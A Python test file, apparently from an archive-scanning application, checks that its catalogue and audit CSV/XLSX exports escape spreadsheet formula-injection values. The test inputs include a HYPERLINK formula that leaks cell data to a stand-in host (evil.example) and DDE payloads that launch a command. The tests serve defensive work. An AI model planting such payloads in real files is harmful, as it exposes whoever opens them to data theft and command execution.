"""Spreadsheet formula injection: every CSV export escapes cells a spreadsheet would run as a formula.

The exported CSV is read back the way Excel or WPS open it (each cell typed into a sheet): with
openpyxl, a cell whose text starts with "=" becomes a formula. After escaping, none does, and the
text shown is the original with a leading apostrophe.
"""

from __future__ import annotations

import csv

import openpyxl
import pytest

from scanstation.custody import audit_export, personal_data
from scanstation.spreadsheet_cells import safe_cell
from tests.test_custody_fixtures import add_dossier, number_for

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _as_spreadsheet(path, tmp_path):
    """Open the CSV as a spreadsheet would and save it as .xlsx; return the reloaded sheet."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = tmp_path / (path.stem + ".xlsx")
    wb.save(out)
    return rows, openpyxl.load_workbook(out).active


def _no_formula(rows, sheet):
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [], formulas
    for text in HOSTILE:
        assert any(cell == "'" + text for row in rows for cell in row), text


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("参保人员登记表", "参保人员登记表"),
        ("", ""),
        (12, 12),
        (-3, -3),
        (None, None),
        ("a=1", "a=1"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_catalog_export_escapes_formula_cells(home, sessions, tmp_path):
    for i, text in enumerate(HOSTILE, 1):
        add_dossier(home, number_for(2019, "D30", i), year=2019, retention="D30", title=text, person_name=text)
    out = tmp_path / "catalog.csv"
    personal_data.export_catalog(sessions["archivist1"], out, unmasked=True)
    _no_formula(*_as_spreadsheet(out, tmp_path))


def test_audit_export_escapes_formula_cells(home, sessions, tmp_path):
    for text in HOSTILE:
        sessions["archivist1"].log("personal.view", "dossier", text, {"note": "x"})
    out = tmp_path / "audit.csv"
    audit_export.export(sessions["auditor1"], "csv", out)
    _no_formula(*_as_spreadsheet(out, tmp_path))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_digitisation_catalog_export_escapes_formula_cells(home, sessions, tmp_path, fmt):
    from scanstation.export.catalog_export import export_catalog

    for i, text in enumerate(HOSTILE, 1):
        add_dossier(home, number_for(2019, "D30", i), year=2019, retention="D30", title=text)
    with home.catalog.write() as conn:
        conn.execute("UPDATE dossiers SET fonds_code = 'X001'")
    out = tmp_path / f"目录.{fmt}"
    export_catalog(sessions["archivist1"], out, fmt, tmp_path / "images")
    if fmt == "csv":
        _no_formula(*_as_spreadsheet(out, tmp_path))
    else:
        sheet = openpyxl.load_workbook(out).active
        assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
        titles = {c.value for row in sheet.iter_rows() for c in row}
        assert set(HOSTILE) <= titles  # kept as text, exactly
